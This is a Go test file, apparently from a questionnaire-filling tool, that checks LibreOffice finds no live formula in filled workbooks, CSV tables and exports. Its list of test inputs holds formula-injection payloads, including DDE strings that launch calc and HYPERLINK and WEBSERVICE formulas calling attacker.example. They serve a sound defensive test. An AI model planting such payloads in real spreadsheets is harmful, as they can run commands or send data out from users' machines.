package fill

import (
	"bytes"
	"context"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/candor-site/candor/internal/build"
	"github.com/candor-site/candor/internal/disclose"
	"github.com/candor-site/candor/internal/export"
	"github.com/candor-site/candor/internal/match"
	"github.com/candor-site/candor/internal/questionnaire"
	"github.com/candor-site/candor/internal/respond"
	"github.com/candor-site/candor/internal/scaffold"
	"github.com/candor-site/candor/internal/workbook"
)

// converted has LibreOffice read a file, and returns the cells that it found, by
// sheet and name. Without LibreOffice the test skips; scripts/libreoffice installs
// it.
func converted(t *testing.T, name string, data []byte) map[string]cell {
	t.Helper()
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice is not there (scripts/libreoffice installs it): what it makes of workbooks is not tested")
	}
	dir := t.TempDir()
	in := filepath.Join(dir, name)
	if err := os.WriteFile(in, data, 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	defer cancel()
	args := []string{"--headless", "--nologo", "--norestore", "-env:UserInstallation=file://" + filepath.ToSlash(dir) + "/profile"}
	if filepath.Ext(name) == ".csv" {
		args = append(args, "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true") // UTF-8 by commas; formulas are computed
	}
	cmd := exec.CommandContext(ctx, office, append(args, "--convert-to", "fods", "--outdir", dir, in)...)
	cmd.Env = append(os.Environ(), "HOME="+dir)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("LibreOffice: %v\n%s", err, out)
	}
	f, err := os.Open(strings.TrimSuffix(in, filepath.Ext(in)) + ".fods")
	if err != nil {
		t.Fatalf("LibreOffice did not open %s: %v\n%s", name, err, out)
	}
	defer f.Close()
	cells, err := flat(f)
	if err != nil {
		t.Fatal(err)
	}
	return cells
}

// cell is what LibreOffice found in one.
type cell struct{ text, formula string }

// flat reads the cells of a spreadsheet (OpenDocument 1.3, part 3, 9.1).
func flat(r io.Reader) (map[string]cell, error) {
	out := map[string]cell{}
	dec := xml.NewDecoder(r)
	sheet, row, column, repeat := "", 0, 0, 1
	var at *cell
	lines, inside := 0, false // of paragraphs
	for {
		t, err := dec.Token()
		if errors.Is(err, io.EOF) {
			return out, nil
		}
		if err != nil {
			return nil, err
		}
		switch e := t.(type) {
		case xml.StartElement:
			switch e.Name.Local {
			case "table":
				sheet, row = attribute(e, "name"), 0
			case "table-row":
				row, column = row+1, 0
				repeat, _ = strconv.Atoi(attribute(e, "number-rows-repeated"))
			case "table-cell", "covered-table-cell":
				column++
				at, lines = &cell{formula: attribute(e, "formula")}, 0
				if n, err := strconv.Atoi(attribute(e, "number-columns-repeated")); err == nil && n > 1 {
					column += n - 1 // only empty cells matter, and they do not
				}
			case "p":
				inside = at != nil
				if lines++; inside && lines > 1 {
					at.text += "\n"
				}
			case "line-break", "tab":
				if inside {
					at.text += map[string]string{"line-break": "\n", "tab": "\t"}[e.Name.Local]
				}
			case "s":
				if !inside {
					continue
				}
				n, err := strconv.Atoi(attribute(e, "c"))
				if err != nil {
					n = 1
				}
				at.text += strings.Repeat(" ", n)
			case "annotation":
				if err := dec.Skip(); err != nil {
					return nil, err
				}
			}
		case xml.CharData:
			if inside {
				at.text += string(e)
			}
		case xml.EndElement:
			switch e.Name.Local {
			case "p":
				inside = false
			case "table-cell", "covered-table-cell":
				if at.text != "" || at.formula != "" {
					out[fmt.Sprintf("%s!%s%d", sheet, questionnaire.Letters(column), row)] = *at
				}
				at = nil
			case "table-row":
				row += max(repeat, 1) - 1
			}
		}
	}
}

func attribute(e xml.StartElement, name string) string {
	for _, a := range e.Attr {
		if a.Name.Local == name {
			return a.Value
		}
	}
	return ""
}

// starts are texts that spreadsheet programs run, or take for something else than
// text, when they stand at the start of a cell.
var starts = []string{
	"=1+1", "==1+1", "+1+1", "-1+1", "@SUM(1;1)", "=SUM(1;1)", `=HYPERLINK("http://attacker.example/","click")`, "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0", `=DDE("soffice";"x";"y")`, `=WEBSERVICE("http://attacker.example/")`, "={1;2}", "{=1+1}", "\t=1+1", "\n=1+1", " =1+1", "   +1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1",
	"＝1+1", "＋1", "－1", "＠A1", "﹢1", "⁺1", "\u22121", "|calc", "%0A=1", "'=1+1", "\"=1+1\"", "x,=1+1", "x;=1+1", "x\t=1+1", "of:=1+1", "oooc:=1+1", "msoxl:=1+1", "1E5", "TRUE", "2026-11-20", "00123", "#REF!",
}

// dangerous answers each question with one of the starts.
type dangerous struct{}

func (dangerous) Answer(q match.Question) respond.Response {
	n, _ := strconv.Atoi(strings.TrimSuffix(strings.TrimPrefix(q.Text, "Is text "), " safe?"))
	return respond.Response{Fill: true, Text: starts[n] + " ", Long: starts[n] + "x"}
}

// asking is a questionnaire with a question for each of the starts.
func asking() (rows [][]string) {
	for i := range starts {
		rows = append(rows, []string{fmt.Sprintf("Is text %d safe?", i), "", ""})
	}
	return rows
}

// TestLibreOfficeFindsNoFormula fills a workbook and a table with what could be
// taken for formulas, writes a workbook of them as the exports do, and has
// LibreOffice open all three.
func TestLibreOfficeFindsNoFormula(t *testing.T) {
	if len(starts) < 30 {
		t.Fatalf("only %d starts", len(starts))
	}
	columns := []workbook.Column{{Title: "Question"}, {Title: "Answer"}, {Title: "Comments"}}
	var xlsx, export bytes.Buffer
	if err := workbook.Write(&xlsx, []workbook.Sheet{{Name: "Q", Columns: columns, Rows: asking()}}); err != nil {
		t.Fatal(err)
	}
	rows := asking()
	csv := "Question,Answer,Comments\r\n"
	for i := range rows {
		csv += rows[i][0] + ",,\r\n"
		rows[i][1], rows[i][2] = strings.TrimSpace(starts[i]), starts[i]+"x"
	}
	if err := workbook.Write(&export, []workbook.Sheet{{Name: "Q", Columns: columns, Rows: rows}}); err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		data  []byte
		sheet string
		whole bool
	}{"q.xlsx": {xlsx.Bytes(), "Q", false}, "q.csv": {[]byte(csv), "q", false}, "export.xlsx": {export.Bytes(), "Q", true}} {
		data := c.data
		want := map[string]string{}
		if !c.whole {
			q, err := questionnaire.Open(data, nil)
			if err != nil {
				t.Fatal(err)
			}
			f := Fill(q, dangerous{}, Never)
			var out bytes.Buffer
			if err := f.Write(&out, data); err != nil {
				t.Fatal(err)
			}
			data = out.Bytes()
			for _, ch := range f.Changes {
				want[c.sheet+"!"+ch.Cell] = q.Stored(ch.Text)
			}
		} else {
			for i, row := range rows {
				want[fmt.Sprintf("Q!B%d", i+2)], want[fmt.Sprintf("Q!C%d", i+2)] = row[1], row[2]
			}
		}
		if len(want) != 2*len(starts) {
			t.Fatalf("%s: %d cells were written, want %d", name, len(want), 2*len(starts))
		}
		got := converted(t, name, data)
		for at, x := range got {
			if x.formula != "" {
				t.Errorf("%s: LibreOffice finds the formula %s in %s", name, x.formula, at)
			}
		}
		for at, text := range want {
			if x := got[at]; x.text != text && !strings.HasSuffix(name, ".csv") { // in a table 1E5 is a number, whoever wrote it
				t.Errorf("%s: %s says %q to LibreOffice, want %q", name, at, x.text, text)
			}
		}
	}
	if got := converted(t, "control.csv", []byte("a,=1+1\r\n")); got["control!B1"].formula == "" {
		t.Error("LibreOffice runs no formula of a table at all: the test proves nothing")
	}
}

// TestLibreOfficeReadsBack fills real questionnaires and has LibreOffice open
// them: each answer says there what was written.
func TestLibreOfficeReadsBack(t *testing.T) {
	for name, o := range map[string]Overwrite{
		"hecvat-4.14/HECVAT414.xlsx":                         Never,
		"azure-review-checklists/security_checklist.en.xlsx": Placeholders,
	} {
		_, out, f := real(t, name, &every{}, o)
		if len(f.Changes) == 0 {
			t.Fatalf("%s: nothing was written", name)
		}
		got := converted(t, filepath.Base(name), out)
		for _, c := range f.Changes {
			if x := got[c.Sheet+"!"+c.Cell]; x.text != c.Text || x.formula != "" {
				t.Errorf("%s: %s!%s says %q to LibreOffice, want %q", name, c.Sheet, c.Cell, x, c.Text)
			}
		}
		t.Logf("%s: %d cells read back", filepath.Base(name), len(f.Changes))
	}
}

// TestLibreOfficeOpensExports exports the catalog and the answers of a site as
// workbooks and has LibreOffice open them: no formula, and the cells say what
// another reader finds in them.
func TestLibreOfficeOpensExports(t *testing.T) {
	dir := t.TempDir()
	if _, err := scaffold.Site(dir, noon); err != nil {
		t.Fatal(err)
	}
	p, err := build.Open(t.Context(), build.Options{Dir: dir, AsOf: noon, Workers: 2})
	if err != nil || p.Config == nil {
		t.Fatal(err)
	}
	view, list := p.View(p.Config.Ladder[0])
	if view == nil {
		t.Fatalf("%+v", list)
	}
	for name, write := range map[string]func(io.Writer, *disclose.View, export.Format) error{"controls.xlsx": export.Controls, "answers.xlsx": export.Answers} {
		var b bytes.Buffer
		if err := write(&b, view, export.XLSX); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		got, cells := converted(t, name, b.Bytes()), 0
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet)
			if err != nil {
				t.Fatal(err)
			}
			for i, row := range rows {
				for j, text := range row {
					if text == "" {
						continue
					}
					cells++
					at := fmt.Sprintf("%s!%s%d", sheet, questionnaire.Letters(j+1), i+1)
					if x := got[at]; x.formula != "" || strings.Join(strings.Fields(x.text), " ") != strings.Join(strings.Fields(text), " ") {
						t.Errorf("%s: %s says %q to LibreOffice, want %q", name, at, x, text)
					}
				}
			}
		}
		if cells < 500 {
			t.Errorf("%s: only %d cells", name, cells)
		}
		t.Logf("%s: %d cells read back", name, cells)
	}
}
